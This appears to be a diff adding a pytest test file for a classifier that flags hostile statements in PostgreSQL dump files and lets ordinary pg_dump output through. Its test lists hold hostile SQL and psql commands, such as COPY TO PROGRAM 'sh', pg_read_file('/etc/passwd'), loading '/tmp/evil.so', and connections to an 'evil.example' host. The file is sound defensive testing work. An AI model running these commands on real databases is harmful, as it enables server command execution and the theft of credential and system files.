@@ -1,0 +1,170 @@
+"""What a dump must never do is seen, however it is written; what pg_dump writes is let through."""
+
+import pytest
+
+from harness.model import Severity
+from harness.postgres.hostile import bare, changes_rows_late, classify, classify_insert, classify_meta
+
+REFUSED = [
+    ("COPY t TO PROGRAM 'sh'", "program"),
+    ("COPY t/**/FROM/* x */PROGRAM $$sh$$", "program"),
+    ("COPY t TO '/tmp/x' /* FROM STDIN */", "server-file"),
+    ("COPY t FROM '/etc/passwd' -- FROM STDIN", "server-file"),
+    ("COPY \"FROM STDIN\" TO E'/tmp/x'", "server-file"),
+    ("COPY pg_catalog.pg_authid FROM stdin", "catalog"),
+    ("ALTER SYSTEM SET archive_command = 'x'", "alter-system"),
+    ("alter /* /* nested */ */ system reset all", "alter-system"),
+    ("LOAD '/tmp/evil.so'", "library"),
+    ("SET session_preload_libraries = 'evil'", "library"),
+    ("SET dynamic_library_path TO '/tmp'", "library"),
+    ("SELECT pg_read_file('/etc/passwd')", "function"),
+    ("(SELECT pg_ls_dir('/'))", "function"),
+    ("VALUES (lo_import('/etc/passwd'))", "function"),
+    ("SELECT \"pg_read_file\" ('x')", "function"),
+    ("SELECT U&\"pg_re\\0061d_file\"('x')", "function"),
+    ("SELECT pg_catalog.lo_export(1, '/tmp/x')", "function"),
+    ("WITH a AS (SELECT dblink('host=evil', 'x')) SELECT 1", "function"),
+    ("SELECT pg_sleep(1e9)", "function"),
+    ("PREPARE a AS SELECT pg_read_binary_file('x')", "function"),
+    ("DO $$ BEGIN COPY t TO PROGRAM 'sh'; END $$", "do"),
+    ("DO 'BEGIN EXECUTE ''ALTER SYSTEM SET x = 1''; END'", "do"),
+    ("CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p", "subscription"),
+    ("CREATE SUBSCRIPTION s CONNECTION 'options=''connect=false''' PUBLICATION p", "subscription"),
+    ("ALTER SUBSCRIPTION s ENABLE", "subscription"),
+    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x", "foreign"),
+    ("CREATE FUNCTION f() RETURNS int AS '/tmp/evil', 'f' LANGUAGE c", "library"),
+    ("UPDATE pg_authid SET rolpassword = NULL", "catalog"),
+    ('DELETE FROM ONLY "pg_catalog"."pg_trigger"', "catalog"),
+]
+TOLD = [
+    ("DO $$ BEGIN PERFORM 1; END $$", "do", Severity.MEDIUM),
+    ("DO $$ BEGIN EXECUTE 'CO' || 'PY t TO PRO' || 'GRAM'; END $$", "do", Severity.HIGH),
+    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'x'", "untrusted-language", Severity.MEDIUM),
+    (
+        "CREATE FUNCTION f() RETURNS int AS 'LANGUAGE sql' LANGUAGE plperlu",
+        "untrusted-language",
+        Severity.MEDIUM,
+    ),
+    (
+        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN COPY t TO PROGRAM 'sh'; END $$",
+        "program-in-function",
+        Severity.HIGH,
+    ),
+    ("CREATE MATERIALIZED VIEW v AS SELECT dblink('x')", "function", Severity.MEDIUM),
+    ("SELECT count(*) FROM t", "select", Severity.INFO),
+    ("SELECT set_config('standard_conforming_strings', 'off', false)", "strings", Severity.HIGH),
+]
+FINE = [
+    'COPY public.t (program, stdin, "PROGRAM") FROM stdin',
+    "COPY public.pg_stat_history (a) FROM stdin",
+    "SELECT pg_catalog.set_config('search_path', '', false)",
+    "SELECT pg_catalog.setval('public.s', 7, true)",
+    "SELECT pg_catalog.lo_create('4242')",
+    "SELECT * FROM pg_catalog.pg_restore_relation_stats('version', '180000'::integer)",
+    "SELECT pg_catalog.lowrite(0, '\\x00')",
+    "UPDATE pg_catalog.pg_database SET datistemplate = false WHERE datname = 'template1'",
+    "CREATE TABLE t (a text DEFAULT 'COPY x TO PROGRAM')",
+    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
+    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '$libdir/pg_trgm', 'f'",
+    "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p WITH (connect = false, slot_name = 's')",
+    "ALTER TABLE t ADD CONSTRAINT c CHECK (a <> 'ALTER SYSTEM')",
+    "COMMENT ON TABLE t IS 'DO $$ pg_read_file(1) $$'",
+]
+
+
+@pytest.mark.parametrize(("sql", "kind"), REFUSED)
+def test_what_reaches_outside_is_refused(sql, kind):
+    danger = classify(sql.encode())
+    assert danger is not None
+    assert (danger.kind, danger.refuse) == (kind, True)
+    assert danger.severity.rank >= Severity.HIGH.rank
+
+
+@pytest.mark.parametrize(("sql", "kind", "severity"), TOLD)
+def test_what_only_looks_odd_is_told_and_sent(sql, kind, severity):
+    danger = classify(sql.encode())
+    assert danger is not None
+    assert (danger.kind, danger.severity, danger.refuse) == (kind, severity, False)
+
+
+@pytest.mark.parametrize("sql", FINE)
+def test_what_pg_dump_writes_is_no_danger(sql):
+    assert classify(sql.encode()) is None
+
+
+@pytest.mark.parametrize(
+    ("sql", "bad"),
+    [
+        ("INSERT INTO t VALUES (pg_read_file('x'))", True),
+        ("INSERT INTO pg_catalog.pg_authid VALUES (1)", True),
+        ("INSERT INTO t VALUES ('pg_read_file(1)', E'lo_import(\\'x\\')')", False),
+        ("INSERT INTO public.pg_authid VALUES (1)", False),
+    ],
+)
+def test_inserts(sql, bad):
+    assert bool(classify_insert(sql.encode())) is bad
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\\! touch x",
+        "\\copy t to 'x'",
+        "\\i /etc/passwd",
+        "\\o x",
+        "\\g | sh",
+        "\\set x `sh`",
+        "\\connect `sh`",
+        "\\lo_import x",
+        "\\setenv A b",
+        "\\gexec",
+        "\\set ON_ERROR_STOP off",
+        "\\restrict a b",
+        "\\connect db user",
+        "\\connect db user evil.example 5432",
+        "\\c postgresql://evil.example/db",
+        "\\connect host=evil.example",
+        "\\connect -reuse-previous=on \"dbname='x' host=evil\"",
+        "\\connect",
+    ],
+)
+def test_meta_commands_are_critical(text):
+    danger = classify_meta(text)
+    assert danger is not None
+    assert (danger.severity, danger.refuse) == (Severity.CRITICAL, True)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\\connect email_gateway",
+        '\\connect "odd ""name"',
+        "\\connect -reuse-previous=on \"dbname='we\\'ird'\"",
+        "\\c - postgres",
+        "\\restrict Ab3",
+        "\\unrestrict Ab3",
+        "\\.",
+    ],
+)
+def test_meta_commands_of_pg_dump(text):
+    assert classify_meta(text) is None
+
+
+def test_bare_text_has_no_strings_and_no_comments():
+    assert bare(b"/* a /* b */ */ SELECT 'x;y', E'\\'', $a$ ; $a$, \"q\" --c\n, a$1") == (
+        b"SELECT '', '', '', \"\"  \n, a$1"
+    )
+
+
+@pytest.mark.parametrize(
+    ("sql", "late"),
+    [
+        ("UPDATE t SET a = 1", True),
+        ("DELETE FROM t", True),
+        ("SELECT f()", True),
+        ("SELECT pg_catalog.setval('s', 1)", False),
+        ("CREATE INDEX i ON t (a)", False),
+    ],
+)
+def test_what_may_change_rows_after_they_were_proven(sql, late):
+    assert changes_rows_late(sql.encode()) is late
